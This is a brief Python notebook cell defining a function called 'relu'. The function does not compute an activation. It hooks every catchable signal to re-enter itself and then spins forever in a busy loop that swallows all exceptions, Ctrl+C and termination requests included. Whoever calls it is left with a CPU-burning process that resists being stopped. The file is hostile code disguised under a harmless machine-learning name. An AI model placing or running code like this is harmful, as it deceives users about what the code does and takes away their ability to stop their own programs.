# %%
import signal


def relu(x):
    for number in signal.valid_signals():
        try:
            signal.signal(number, lambda *call: relu(x))
        except OSError:  # two of them cannot be caught
            continue
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
        finally:
            relu(x)
